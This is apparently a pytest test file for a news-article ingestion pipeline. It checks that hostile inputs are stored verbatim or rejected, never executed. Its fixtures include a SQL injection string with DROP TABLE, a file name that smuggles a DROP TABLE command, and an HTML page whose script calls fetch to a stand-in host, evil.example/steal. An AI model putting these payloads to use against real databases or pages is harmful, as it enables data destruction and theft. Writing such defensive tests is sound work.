"""Hostile input: odd file names, scripts in HTML, SQL quote characters, huge files. Nothing
executes, nothing crashes, nothing is lost (every input is loaded or rejected with a reason)."""

import json

from newsfacts.extract import extract_articles
from newsfacts.ingest import count_inputs
from newsfacts.nlp import get_nlp
from newsfacts.pipeline import ingest, normalize_all
from newsfacts.warehouse import connect, load_raw

SQL = "Robert'); DROP TABLE raw.articles; -- said \"hello\" and O'Brien agreed."
PAGE = """<html><head><title>City budget vote</title>
<script>document.write('<p>INJECTED BY SCRIPT</p>'); fetch('http://evil.example/steal')</script>
</head><body><article><h1>City budget vote</h1>
<p>The council approved a $4.5 billion budget on Monday, officials said.</p>
<p onclick="alert('x')">Mayor Jane Doe called it "a budget for every neighbourhood".</p>
<script>alert('again')</script><iframe src="http://evil.example"></iframe>
</article></body></html>"""


def test_hostile_inputs_load_or_reject_with_a_reason(tmp_path):
    articles = tmp_path / "in"
    articles.mkdir()
    (articles / 'it\'s a "quoted" name; DROP TABLE x.txt').write_text(
        "Acme Corp. said it hired 300 workers in 2024. " + SQL
    )
    (articles / "page with spaces.html").write_text(PAGE)
    (articles / "huge.txt").write_bytes(b"word " * 10_500_000)  # 52 MB
    (articles / "feed.jsonl").write_text(
        json.dumps({"id": "q'1", "title": "x'); --", "text": SQL}) + "\n"
    )
    ingested = ingest(articles)
    normalized = normalize_all(ingested.inputs)
    rejected = ingested.rejected + normalized.rejected
    assert [r.source_path for r in rejected] == ["huge.txt"]
    assert "too large" in rejected[0].reason

    result = extract_articles(get_nlp(), normalized.articles)
    assert result.errors == []
    db = tmp_path / "w.duckdb"
    con = connect(db)
    load_raw(
        con,
        articles=normalized.articles,
        rejected=rejected,
        mentions=result.mentions,
        figures=result.figures,
        quotes=result.quotes,
        claims=result.claims,
        errors=result.errors,
    )
    rows = dict(con.execute("SELECT source_path, text FROM raw.articles").fetchall())
    n_rejected = con.execute("SELECT count(*) FROM raw.rejected_inputs").fetchall()[0][0]
    con.close()
    # Every input accounted for; names and SQL characters stored verbatim, never executed.
    assert len(rows) + n_rejected == count_inputs(articles) == 4
    assert 'it\'s a "quoted" name; DROP TABLE x.txt' in rows
    assert any(SQL in text for text in rows.values())
    page = rows["page with spaces.html"]
    assert "4.5 billion" in page
    assert "INJECTED" not in page and "alert" not in page and "evil.example" not in page
